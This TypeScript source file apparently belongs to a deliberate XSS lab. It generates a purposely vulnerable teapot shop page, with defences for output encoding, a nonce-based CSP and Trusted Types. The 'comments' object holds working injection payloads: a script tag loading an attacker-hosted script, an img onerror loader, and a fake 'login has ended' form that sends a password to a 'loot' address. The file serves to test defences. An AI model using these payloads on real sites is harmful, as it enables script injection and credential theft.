import type { Injection } from "../model.ts";
import type { XssRun } from "../runs.ts";

/** What a vulnerable page is written with. */
export type PageTarget = {
  readonly run: XssRun;
  /** The address of the injected script, on the attacker's host. */
  readonly script: string;
  /** Where a form without a script sends what is typed into it. */
  readonly loot: string;
  /** Where alice's part tells what she did. */
  readonly steps: string;
  /** The next page of the play. */
  readonly next: string;
  /** Random, and another one in each answer. */
  readonly nonce: string;
};

/** What the attacker writes as a comment, by how it gets into the page. */
export const comments: Readonly<Record<Injection, (target: Pick<PageTarget, "script" | "loot">) => string>> = {
  html: ({ script }) => `<script src="${script}"></script>`,
  dom: ({ script }) =>
    `<img src="data:," onerror="document.head.append(Object.assign(document.createElement('script'), { src: '${script}' }))">`,
  markup: ({ loot }) =>
    `<form action="${loot}">Your login has ended. <input type="text"> <input type="password" name="text"> <button>Log in</button></form>`,
};

/** The page as it is served. Each defence is one line of it, or one header. */
export function vulnerablePage(target: PageTarget, defences: PageDefences = pageDefences) {
  const { run, steps, next, nonce } = target;
  const { place, injection, defence, plan, inWorker } = run;
  const comment = comments[injection](target);
  const isEncoded = defence === "encoding";
  const written = isEncoded ? defences.encoding(comment) : comment;
  const data = {
    ...{ flow: place.flow, variant: place.variant, keeping: place.keeping, worker: inWorker, encodes: isEncoded },
    ...{ plan, injection, steps, next, ...(injection === "dom" && { comment }) },
  };
  const attributes = Object.entries(data).map(([name, value]) => `data-${name}="${encoded(String(value))}"`);
  const html = [
    "<!doctype html>",
    '<html lang="en"><meta charset="utf-8"><title>A shop that is vulnerable on purpose</title>',
    `<body ${attributes.join(" ")} style="font:16px/1.5 system-ui;margin:2rem">`,
    "<h1>Teapots</h1>",
    `<ul id="comments"><li>${injection === "dom" ? "Fine tea." : written}</li></ul>`,
    '<form id="login"><input type="text" name="username" aria-label="Name"> <input type="password" name="password" aria-label="Password"> <button>Log in</button></form>',
    `<script type="module" nonce="${nonce}" src="alice.js"></script>`,
  ];
  const policy = defences.policies[defence]?.(nonce);
  const headers = policy === undefined ? [] : [["content-security-policy", policy] as const];
  return { html: `${html.join("\n")}\n`, headers };
}

export type PageDefences = {
  readonly encoding: (text: string) => string;
  readonly policies: Readonly<Partial<Record<XssRun["defence"], (nonce: string) => string>>>;
};

/** OWASP XSS Prevention Cheat Sheet: output encoding for HTML. ASVS 1.2.1. */
const encoded = (text: string): string =>
  text
    .replaceAll("&", "&amp;")
    .replaceAll("<", "&lt;")
    .replaceAll(">", "&gt;")
    .replaceAll('"', "&quot;")
    .replaceAll("'", "&#39;");

export const pageDefences: PageDefences = {
  encoding: encoded,
  policies: {
    // ASVS 3.4.3. A script runs if it has this answer's nonce.
    csp: (nonce) => `script-src 'nonce-${nonce}' 'strict-dynamic'; object-src 'none'; base-uri 'none'`,
    // A text becomes elements by no sink of the DOM. What the server has written is not asked.
    "trusted-types": () => "require-trusted-types-for 'script'; trusted-types 'none'",
  },
};
